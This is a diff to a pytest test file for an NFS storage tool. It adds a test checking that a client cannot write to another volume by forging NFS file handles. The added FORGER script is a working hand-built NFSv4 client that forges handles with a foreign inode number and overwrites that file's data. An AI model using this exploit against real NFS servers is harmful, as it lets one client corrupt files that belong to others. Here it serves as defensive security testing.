@@ -12,6 +12,7 @@ import pytest
 
 from storkit.core.errors import Conflict, StorkitError, Unsafe, Unsupported
 from storkit.core.model import Attachment, Volume
+from storkit.system.nfsserver import parse_etab
 from tests.contract.transport_nfs import NfsRig
 from tests.lab import Host, Lab
 from tests.lab.remote import Hosts
@@ -102,6 +103,12 @@ def attach(rig: NfsRig, volume: Volume, *writers: str) -> Attachment:
 
 def digest(host: Host, volume: Volume) -> str:
     return host.run(["sha256sum", volume.path]).stdout
+
+
+def exported(host: Host) -> set[tuple[str, str, frozenset[str]]]:
+    """What a server exports to whom, and how; exportfs(8) does not always write the options of one entry alike."""
+    entries = parse_etab(host.run(["cat", "/var/lib/nfs/etab"]).stdout)
+    return {(entry.path, entry.client, frozenset(entry.options)) for entry in entries}
 
 
 def test_no_write_of_a_host_without_the_right_reaches_the_file(rig: NfsRig, lab: Lab) -> None:
@@ -206,17 +213,16 @@ def test_exports_of_others_stay_as_they_are(rig: NfsRig, lab: Lab) -> None:
     a.put("/srv/theirs 10.77.0.0/24(rw,no_subtree_check)\n", "/etc/exports.d/theirs.exports")
     a.run(["exportfs", "-r"])
     a.run(["exportfs", "-o", "ro,no_subtree_check", "10.9.9.9:/srv/byhand"])
-    before = a.run(["cat", "/var/lib/nfs/etab"]).stdout
+    before = exported(a)
     volume = rig.volume("v")
     attach(rig, volume, "b")
-    during = a.run(["cat", "/var/lib/nfs/etab"]).stdout
-    assert set(before.splitlines()) < set(during.splitlines())
+    assert before < exported(a)
     a.run(["exportfs", "-r"])  # what an administrator may type at any time
     assert [(export.live, export.writable) for export in rig.home.find_exports()] == [(True, True)]
     a.run(["exportfs", "-o", "ro,no_subtree_check", "10.9.9.9:/srv/byhand"])
     rig.far.detach([volume])
     rig.home.unexport([volume], ["b"])
-    assert sorted(a.run(["cat", "/var/lib/nfs/etab"]).stdout.splitlines()) == sorted(before.splitlines())
+    assert exported(a) == before
     assert a.run(["ls", "/etc/exports.d"]).stdout.split() == ["theirs.exports"]
 
 
@@ -270,8 +276,73 @@ def test_a_client_can_change_nothing_but_its_volumes_file(rig: NfsRig, lab: Lab)
     other = rig.volume("other")
     rig.home.export([other], [rig.a])
     seen = b.run(["find", "/mnt/root"], check=False).stdout
-    assert "v.raw" in seen and other.uuid not in seen and "other.raw" not in seen
+    assert there.uuid in seen and other.uuid not in seen
     b.run(["umount", "/mnt/root"])
+
+
+# A hostile client: NFS 4.0 (RFC 7530) by hand, with a file handle of its own making. It prints the status of a write of
+# one block through its own handle, and of a write through that handle with another file's inode number in it.
+FORGER = """\
+import os, socket, struct, sys
+server, path, inode = sys.argv[1], sys.argv[2], int(sys.argv[3])
+opaque = lambda data: struct.pack(">I", len(data)) + data + bytes(-len(data) % 4)
+link = socket.socket()
+link.bind(("", 900 + os.getpid() % 100))
+link.connect((server, 2049))
+
+def compound(*operations):
+    name = opaque(b"forger")
+    credential = struct.pack(">I", 0) + name + struct.pack(">III", 0, 0, 0)
+    call = struct.pack(">IIIIII", 7, 0, 2, 100003, 4, 1) + struct.pack(">I", 1) + opaque(credential)
+    call += struct.pack(">II", 0, 0) + opaque(b"") + struct.pack(">II", 0, len(operations)) + b"".join(operations)
+    link.sendall(struct.pack(">I", 1 << 31 | len(call)) + call)
+    size = struct.unpack(">I", link.recv(4, socket.MSG_WAITALL))[0] & 0x7FFFFFFF
+    reply = link.recv(size, socket.MSG_WAITALL)
+    assert reply[8:12] == bytes(4), "the call was not accepted"
+    return struct.unpack(">I", reply[24:28])[0], reply
+
+def write(handle):
+    stateid = bytes(16)
+    while True:
+        status, _ = compound(
+            struct.pack(">I", 22) + opaque(handle),
+            struct.pack(">I", 38) + stateid + struct.pack(">QI", 0, 2) + opaque(b"forged!!" * 512),
+        )
+        if status != 10013:  # the server's grace period
+            return status
+
+lookups = [struct.pack(">I", 15) + opaque(part.encode()) for part in path.strip("/").split("/")]
+status, reply = compound(struct.pack(">I", 24), *lookups, struct.pack(">I", 10))
+assert status == 0, status
+start = 36 + 8 * (len(lookups) + 2)  # past the operations that return nothing but their status
+handle = reply[start + 4 :][: struct.unpack(">I", reply[start : start + 4])[0]]
+# version, authentication, type of what follows: the export (a UUID and its directory's inode number), type of: the file
+own = struct.unpack("<I", handle[28:32])[0]
+assert handle[2] == 7 and own == os.stat(sys.argv[4]).st_ino, handle.hex()
+plain = handle[:3] + bytes([1]) + handle[4:28] + struct.pack("<II", inode, 0)
+with_parent = handle[:28] + struct.pack("<II", inode, 0) + handle[36:]
+print(write(handle), write(plain), write(with_parent))
+"""
+
+
+def test_a_client_cannot_make_up_a_handle_for_another_volume(rig: NfsRig, lab: Lab) -> None:
+    a, b = lab.hosts("a", "b")
+    mine, theirs = rig.volume("mine"), rig.volume("theirs")
+    there = attach(rig, mine, "b")
+    inode = a.run(["stat", "-c", "%i", theirs.path]).stdout.strip()
+    a.run(["chown", "nobody", theirs.path])
+    untouched = digest(a, theirs)
+    path = rig.home.offers([mine], "b")[0].name
+
+    def forge() -> list[str]:
+        return b.python(FORGER, a.address(), f"{path}/mine.raw", inode, there.path).split()
+
+    own, *forged = forge()
+    assert own == "0" and "0" not in forged and digest(a, theirs) == untouched
+    # The same handles are good where exports do not check: the attack is a real one.
+    options = "rw,sync,no_subtree_check,all_squash,anonuid=65534,anongid=65534"
+    a.run(["exportfs", "-i", "-o", options, f"{b.address()}/32:{path}"])
+    assert "0" in forge()[1:] and digest(a, theirs) != untouched
 
 
 def test_what_cannot_be_exported_says_why(rig: NfsRig, lab: Lab) -> None:
@@ -282,8 +353,6 @@ def test_what_cannot_be_exported_says_why(rig: NfsRig, lab: Lab) -> None:
         rig.home.export([volume], [replace(rig.b, address="")])
     with pytest.raises(StorkitError, match="not known here"):
         rig.home.export([volume], [replace(rig.b, address="no-such-host.invalid")])
-    with pytest.raises(Unsupported, match="only volumes of nfs pools"):
-        rig.home.export([replace(volume, path="/etc/passwd")], [rig.b])
     rig.home.export([volume], [rig.b])
     with pytest.raises(Unsupported, match="both come from"):
         rig.home.export([volume], [replace(rig.b, name="c")])
